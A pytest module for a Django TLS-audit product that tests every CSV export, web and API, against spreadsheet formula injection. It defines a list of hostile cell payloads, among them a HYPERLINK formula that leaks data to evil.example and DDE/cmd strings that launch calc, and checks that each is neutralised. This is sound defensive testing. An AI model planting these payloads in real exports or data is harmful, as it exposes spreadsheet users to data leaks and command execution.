"""No CSV of the product hands a spreadsheet a formula (issue 14, item 6).

Every CSV goes through one writer (tlsaudit/core/csvexport.py). This walks every CSV there is:
each web results table (every table of a load, sweep and handshake run and of a browser probe)
and every API endpoint with `?format=csv` (lists streamed, single objects rendered). The data is
hostile where outsiders write it: names saved before names were checked, and the tested servers'
own words (`Server:` header, cipher and protocol names, page URLs, error texts). Each cell read
back must not start a formula; each hostile value must come back neutralised (so the walk saw it);
and a signed overhead of -12.5 must come back as the number -12.5.

A new CSV endpoint fails `test_the_walk_covers_every_csv_endpoint` until it is walked here.
"""

import csv
import io
import itertools
import random
import unicodedata

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from tests.support.api import client_with, make_key
from tests.support.scale import T0
from tests.support.sites import added_site
from tests.test_audit_views import done_audit
from tlsaudit.alerts.models import Webhook, WebhookDelivery
from tlsaudit.audits.models import Audit
from tlsaudit.demo import perfdata
from tlsaudit.loadtests import presenters as run_tables
from tlsaudit.loadtests.models import PerfRun
from tlsaudit.loadtests.summaries import summarise
from tlsaudit.orgs.models import Organization
from tlsaudit.probes import presenters as probe_tables
from tlsaudit.probes.models import Probe
from tlsaudit.reports.models import Report
from tlsaudit.sites.models import Tag

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "=cmd|' /C calc'!A0",
    "|calc",
    "\uff1dHYPERLINK(1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
TRIGGERS = set("=+-@|%\uff1d\uff0b\uff0d\uff20")
SIGNED_OVERHEAD = -12.5
# Where the tested server, or a stored name, puts text in the workers' JSON.
OUTSIDE_TEXT = {"server_software", "server_hostname", "document_path", "tls_server_name", "cipher", "protocol",
                "suite", "requested_suite", "family", "url", "final_url", "type", "error"}
# Signed results (negative when HTTPS is faster, or TLS 1.3 slower).
SIGNED = {"time_taken_overhead_pct", "requests_per_second_overhead_pct", "pct", "low_pct", "high_pct"}


def is_plain_number(cell: str) -> bool:
    try:
        float(cell.rstrip("%"))
    except ValueError:
        return False
    return cell.strip() == cell and cell[:1] not in ("n", "i", "N", "I")   # not nan/inf spelled out


def starts_a_formula(cell: str) -> bool:
    """Told independently of the product's rule: would a spreadsheet evaluate this cell?"""
    if cell.startswith("'") or is_plain_number(cell):
        return False
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    visible = next((c for c in cell if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf"))), "")
    return visible in TRIGGERS


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


class Hostile:
    """Hands out the hostile strings in turn, so each lands somewhere."""

    def __init__(self):
        self.cycle = itertools.cycle(HOSTILE)

    def __call__(self) -> str:
        return next(self.cycle)

    def poison(self, value):
        """The workers' JSON with outside text made hostile and signed results set to -12.5."""
        if isinstance(value, dict):
            return {key: (self() if key in OUTSIDE_TEXT and isinstance(inner, str) else
                          SIGNED_OVERHEAD if key in SIGNED and isinstance(inner, (int, float)) else
                          self.poison(inner)) for key, inner in value.items()}
        if isinstance(value, list):
            return [self.poison(item) for item in value]
        return value


@pytest.fixture
def hostile_world(org_a, site_a, alice):
    """Agency A with hostile text in every place a CSV reads: stored names, servers' words, errors."""
    evil = Hostile()
    Organization.objects.filter(pk=org_a.pk).update(name=evil())
    sites = [added_site(organization=org_a, hostname=f"h{n}.example.com", name=text)
             for n, text in enumerate(HOSTILE)]
    for site, text in zip(sites, HOSTILE):
        site.tags.add(Tag.objects.create(organization=org_a, name=text[:40]))
    failed = Audit.objects.create(site=site_a, organization=org_a, status="failed", error_code="tls",
                                  error_message=evil(), host=site_a.hostname)
    earlier, done = done_audit(site_a), done_audit(site_a, protocols=("TLSv1.0", "TLSv1.2", "TLSv1.3"))
    runs = {}
    for kind in ("load", "sweep", "handshakes"):
        fields = perfdata.perf_run_fields(random.Random(7), kind, site_a.hostname, {"http": 80, "https": 443},
                                          "192.0.2.10", T0)
        fields.update(results=evil.poison(fields["results"]))
        run = PerfRun.objects.create(site=site_a, organization=org_a, error_message=evil(), **fields)
        # The summary as the task stores it now (a stale one is re-derived on read), with its signed figures set.
        run.summary = evil.poison(summarise(run))
        run.save(update_fields=["summary"])
        runs[kind] = run
    fields = perfdata.probe_fields(random.Random(7), site_a.hostname, "192.0.2.10", T0)
    fields.update(result=evil.poison(fields["result"]))
    probe = Probe.objects.create(site=site_a, organization=org_a, error_message=evil(), **fields)
    report = Report.objects.create(organization=org_a, kind=Report.Kind.SITE, site=site_a,
                                   status=Report.Status.FAILED, error=evil())
    hook = Webhook.objects.create(organization=org_a, url="https://hooks.example.com/tlsaudit")
    for _ in range(3):
        WebhookDelivery.objects.create(webhook=hook, status=WebhookDelivery.Status.FAILED, error=evil())
    return {"site": site_a, "audit": done, "earlier": earlier, "failed": failed, "runs": runs, "probe": probe, "report": report,
            "webhook": hook}


# --- the endpoints ----------------------------------------------------------------------------

def named_patterns(resolver=None, prefix=""):
    """(name, route) of every named URL pattern of the project."""
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from ((name, str(entry.pattern) + route) for name, route in named_patterns(entry, namespace))
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{prefix}{entry.name}", str(entry.pattern)


# API endpoints that never answer CSV: the schema and its docs, the PDF, and POST-only actions.
NOT_CSV = {"api:schema", "api:docs", "api:report-pdf", "api:site-bulk", "api:loadtest-stop", "api:webhook-test",
           "api:audit-bulk", "api:digest-send", "api:nightly-run-now", "api:webhook-redeliver"}


def api_csv_urls(world) -> dict[str, str]:
    site, run = world["site"].pk, world["runs"]["sweep"].pk
    kwargs = {
        "api:organization": {}, "api:portfolio": {}, "api:site-list": {}, "api:site-detail": {"pk": site},
        "api:site-renewals": {"pk": site},
        "api:audit-list": {}, "api:audit-detail": {"pk": world["audit"].pk}, "api:audit-diff": {"pk": world["audit"].pk},
        "api:site-audits": {"pk": site}, "api:site-loadtests": {"pk": site}, "api:site-handshakes": {"pk": site},
        "api:loadtest-detail": {"pk": run}, "api:site-probes": {"pk": site},
        "api:probe-detail": {"pk": world["probe"].pk}, "api:report-list": {},
        "api:report-detail": {"pk": world["report"].pk}, "api:webhook-list": {},
        "api:webhook-detail": {"pk": world["webhook"].pk}, "api:webhook-deliveries": {"pk": world["webhook"].pk},
        "api:digests": {},
    }
    urls = {name: reverse(name, kwargs=kw) + "?format=csv" for name, kw in kwargs.items()}
    urls["api:audit-diff"] += f"&against={world['earlier'].pk}"
    for kind in ("load", "handshakes"):
        urls[f"api:loadtest-detail ({kind})"] = reverse("api:loadtest-detail", args=[world["runs"][kind].pk]) + \
            "?format=csv"
    urls["api:audit-detail (failed)"] = reverse("api:audit-detail", args=[world["failed"].pk]) + "?format=csv"
    urls["api:custom-ca"] = reverse("api:custom-ca") + "?format=csv"
    # The lists' CSV files at their own paths (CSV whatever is asked: no ?format=).
    exports = {"api:sites_csv": {}, "api:audits_csv": {}, "api:sites_audits_csv": {"pk": site},
               "api:sites_loadtests_csv": {"pk": site}, "api:sites_handshakes_csv": {"pk": site},
               "api:sites_probes_csv": {"pk": site}, "api:reports_csv": {}, "api:webhooks_csv": {},
               "api:webhooks_deliveries_csv": {"pk": world["webhook"].pk}}
    urls |= {name: reverse(name, kwargs=kw) for name, kw in exports.items()}
    return urls


def web_csv_urls(world) -> dict[str, str]:
    org, site = world["site"].organization.slug, world["site"].pk
    urls = {}
    for kind, run in world["runs"].items():
        for table in run_tables.csv_tables(run):
            urls[f"loadtests:csv {kind}/{table}"] = reverse("loadtests:csv", args=[org, site, run.pk, table])
    for table in probe_tables.csv_tables(world["probe"]):
        urls[f"probes:csv {table}"] = reverse("probes:csv", args=[org, site, world["probe"].pk, table])
    return urls


def test_the_walk_covers_every_csv_endpoint(hostile_world):
    names = dict(named_patterns())
    web_csv = {name for name, route in names.items() if ".csv" in route and not name.startswith("api:")}
    api = {name for name in names if name.startswith("api:")}
    walked = {key.split(" ")[0] for key in [*api_csv_urls(hostile_world), *web_csv_urls(hostile_world)]}
    assert web_csv == {"loadtests:csv", "probes:csv"}
    assert (api - NOT_CSV) | web_csv == walked, "a CSV endpoint is not walked: add it to api_csv_urls/web_csv_urls"


# --- the walk ---------------------------------------------------------------------------------

def fetch(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code, response.content[:300])
    assert response["Content-Type"].startswith("text/csv"), url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


def test_no_csv_cell_starts_a_formula_and_every_hostile_value_comes_back_neutralised(hostile_world, login, alice,
                                                                                    org_a):
    api = client_with(make_key(org_a)[1])
    web = login(alice)
    exports = {name: fetch(api, url) for name, url in api_csv_urls(hostile_world).items()}
    exports |= {name: fetch(web, url) for name, url in web_csv_urls(hostile_world).items()}

    seen = set()
    for name, text in exports.items():
        cells = cells_of(text)
        assert cells, name
        dangerous = [cell for cell in cells if starts_a_formula(cell)]
        assert dangerous == [], (name, dangerous[:5])
        seen |= set(cells)

    neutralised = {"'" + text.replace("|", "\\|") for text in HOSTILE}
    missing = neutralised - seen
    assert not missing, f"hostile values never reached a CSV (the walk proves nothing for them): {missing}"


def test_signed_numbers_stay_numbers(hostile_world, login, alice, org_a):
    web = login(alice)
    cells = [cell for url in web_csv_urls(hostile_world).values() for cell in cells_of(fetch(web, url))]
    api = client_with(make_key(org_a)[1])
    detail = cells_of(fetch(api, reverse("api:loadtest-detail", args=[hostile_world["runs"]["sweep"].pk]) +
                            "?format=csv"))

    for found in (cells, detail):
        assert str(SIGNED_OVERHEAD) in found     # written as the number -12.5
        assert "'" + str(SIGNED_OVERHEAD) not in found
    assert all(not cell.startswith("'-") or not is_plain_number(cell[1:]) for cell in cells + detail)


def test_the_writer_neutralises_the_header_too_and_quotes_as_csv_does():
    from tlsaudit.core.csvexport import csv_text

    text = csv_text(["=header", "overhead %"], [["=cmd|' /C calc'!A0", -12.5], ['Shop, "Main"', "-12.5"], [None, 0]])
    assert text == ("'=header,overhead %\r\n"
                    "'=cmd\\|' /C calc'!A0,-12.5\r\n"
                    '"Shop, ""Main""",-12.5\r\n'
                    ",0\r\n")
